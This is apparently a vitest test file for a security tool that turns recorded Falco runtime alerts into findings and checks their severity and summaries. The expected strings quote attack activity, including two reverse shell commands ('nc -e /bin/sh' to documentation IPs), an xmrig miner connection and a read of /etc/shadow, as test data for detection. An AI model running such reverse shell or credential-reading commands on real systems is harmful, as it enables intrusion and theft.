import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import falco from '../../functions/falco.ts';
import { observationName } from '../../shared/finding/name.ts';
import { parseSettings } from '../../shared/function/settings.ts';

/** Small inputs that went wrong once, beside the project. */
const folder = join(import.meta.dirname, '..', '..', '..', 'shared', 'cases');

const settings = Object.assign({}, parseSettings({}, falco.source.settings, []));

/** The Observations that the alerts of a case would be: `SEVERITY Kind/namespace/name`, and their summaries. */
function observed(name: string): { readonly about: readonly string[]; readonly said: string } {
  const found = new Map<string, string>();
  let said = '';
  for (const file of readdirSync(join(folder, name))) {
    const alert = falco.source.schema.parse(JSON.parse(readFileSync(join(folder, name, file), 'utf8')));
    for (const finding of falco.source.normalize(alert, { time: '2026-11-25T10:00:30Z', settings }).findings) {
      const { kind, namespace, name: resource } = finding.resource ?? {};
      const about = kind === undefined ? 'nothing' : [kind, namespace, resource].filter(Boolean).join('/');
      found.set(observationName('falco', finding), `${finding.severity} ${about}`);
      said += `${finding.summary}\n${JSON.stringify(finding.details)}\n`;
    }
  }
  return { about: [...found.values()], said };
}

describe.skipIf(!existsSync(folder))('a case of Falco', () => {
  it.each<[string, readonly string[], readonly string[]]>([
    [
      'F01-no-output-fields',
      ['MEDIUM Node/node-1', 'MEDIUM Node/node-1'],
      ['k8s_pod_name=web-1', 'k8s_pod_name=api-9'],
    ],
    ['F02-message-property', ['MEDIUM Pod/shop/web-1'], ['Sensitive file opened for reading by non-trusted program']],
    [
      'F03-cloudtrail-sparse',
      ['MEDIUM nothing'],
      ['mallory', 'DeleteCluster', 'prod-cluster', '198.51.100.9', 'eu-west-1'],
    ],
    ['F04-conn-ephemeral-port-storm', ['CRITICAL Pod/shop/web-1'], ['10.1.2.3->203.0.113.50:3333 by xmrig']],
    [
      'F06-two-reverse-shells',
      ['MEDIUM Pod/shop/web-1', 'MEDIUM Pod/shop/web-1'],
      ['nc -e /bin/sh 198.51.100.1 4444', 'nc -e /bin/sh 203.0.113.2 4444'],
    ],
    ['F07-k3s-empty-container', ['LOW Node/node-1'], []],
    ['F08-k8saudit-no-target', ['MEDIUM nothing'], ['list /api/v1/pods by mallory']],
    [
      'F09-priority-defaults',
      ['MEDIUM', 'HIGH', 'LOW', 'LOW', 'LOW'].map((severity) => `${severity} Pod/shop/web-1`),
      ['Terminal shell in container (shop/web-1): bash as root'],
    ],
    ['F10-no-time', ['MEDIUM Pod/shop/web-1'], []],
    ['F13-elastic-nested-conflict', ['CRITICAL Pod/shop/web-1'], ['shop/web-1']],
    ['F14-no-output-only-fields', ['MEDIUM Pod/shop/web-1'], ['/etc/shadow by cat (parent bash) as root', '1000']],
    ['F15-legacy-internal-drop-no-source', [], []],
  ])('%s comes to what is expected', (name, about, parts) => {
    const outcome = observed(name);
    expect(outcome.about).toEqual(about);
    for (const part of parts) expect(outcome.said).toContain(part);
  });

  it('is tried, whichever there is', () => {
    const cases = readdirSync(folder).filter((name) => /^F\d/.test(name));
    expect(cases.map((name) => name.slice(0, 3))).toEqual([
      'F01',
      'F02',
      'F03',
      'F04',
      'F06',
      'F07',
      'F08',
      'F09',
      'F10',
      'F13',
      'F14',
      'F15',
    ]);
  });
});
